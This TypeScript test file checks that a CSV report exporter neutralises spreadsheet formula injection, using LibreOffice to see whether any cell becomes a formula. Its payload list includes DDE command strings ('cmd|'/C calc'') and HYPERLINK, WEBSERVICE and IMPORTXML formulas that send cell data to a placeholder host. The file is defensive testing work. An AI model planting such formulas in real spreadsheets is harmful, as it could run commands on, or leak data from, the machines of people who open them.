import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { byteOrderMark, csvLine } from '../../../src/modules/insight/reporting/csv.ts'
import type { Finding, Goal } from '../../proofs/goal.ts'
import { randomFrom } from '../../seed.ts'

const names = ['soffice', 'libreoffice']
const office = names.find((name) => spawnSync(name, ['--version']).status === 0)

/** What attackers have written into cells, and what they could: formulas behind signs, spaces, quotes and separators. */
const known = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")'],
  ...[
    '=WEBSERVICE("http://x")',
    '","=1+1',
    '";=1+1;"',
    '\r\n=1+1',
    ' =1+1',
    "'=1+1",
    '"=1+1"',
    "=2+5+cmd|' /C calc'!A0",
    '-2+3',
    '+3',
    '@',
  ],
  ...[
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '%0A=1+1',
    '=1+1\r\n=2+2',
    '{=1+1}',
    '|=1+1',
    '=',
    '-',
    '+',
    '-5',
    '-5.25',
    '1e5',
    '007',
  ],
]
const pieces = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", ' ', '1', '+1', 'SUM(1)', 'A1', '|', '!', '＝', '＋', 'cmd', 'é']

function hostileTexts(count: number, seed: number): string[] {
  const random = randomFrom(seed)
  const made = () => Array.from({ length: 1 + (random(1)[0]! % 7) }, () => pieces[random(1)[0]! % pieces.length]).join('')
  return [...known, ...Array.from({ length: count - known.length }, made)]
}

/** A formula that LibreOffice finds is stored as one in a flat document, whatever its result is. */
const formulasIn = (document: string) => [...document.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!)

export const i2: Goal = {
  id: 'I2',
  promise: 'No cell of a report runs as a formula in LibreOffice, every text is read back, and numbers are numbers',
  async run({ size, seed }): Promise<Finding> {
    if (!office) return { counts: { 'skipped: LibreOffice is missing (apt-get install libreoffice-calc-nogui)': '' }, violations: [] }
    const texts = hostileTexts(size === 'small' ? 100 : 1_000, seed)
    const folder = mkdtempSync(join(tmpdir(), 'crossdock-office-'))
    try {
      const violations: string[] = []
      const write = (name: string, rows: readonly string[]) => {
        writeFileSync(join(folder, name), byteOrderMark + rows.join(''))
        return convert(folder, name)
      }
      const plain = write('plain.csv', ['text,number\r\n', '=1+1,1\r\n'])
      if (formulasIn(plain).length === 0) violations.push('LibreOffice found no formula in a file that has one: this proof proves nothing')
      const lines = texts.map((text, i) => csvLine([text, -i - 0.5, i]))
      const document = write('report.csv', [csvLine(['text', 'number', 'row']), ...lines])
      for (const formula of formulasIn(document)) violations.push(`a formula was found: ${formula}`)
      const numbers = [...document.matchAll(/office:value-type="float" office:value="(-\d+(?:\.\d+)?)"/g)].map(([, value]) => Number(value))
      for (const i of texts.keys()) if (!numbers.includes(-i - 0.5)) violations.push(`${-i - 0.5} is no number`)
      const read: string[][] = parse(byteOrderMark + lines.join(''), { bom: true, record_delimiter: '\r\n' })
      for (const [i, text] of texts.entries())
        if (![text, `'${text}`].includes(read[i]![0]!)) violations.push(`${JSON.stringify(text)} is read as ${JSON.stringify(read[i]![0])}`)
      return {
        counts: { 'hostile texts': texts.length, 'formulas found': formulasIn(document).length, 'negative numbers': numbers.length },
        violations,
      }
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  },
}

/** Opens a CSV file as a person does, with commas and UTF-8, and answers what LibreOffice made of it. */
function convert(folder: string, name: string): string {
  const filter = 'CSV:44,34,76,1,,0,false,true'
  const { status, stderr } = spawnSync(
    office!,
    [
      '--headless',
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, name),
    ],
    { timeout: 120_000 },
  )
  if (status !== 0) throw new Error(`LibreOffice ended with ${status}: ${stderr}`)
  return readFileSync(join(folder, name.replace('.csv', '.fods')), 'utf8')
}
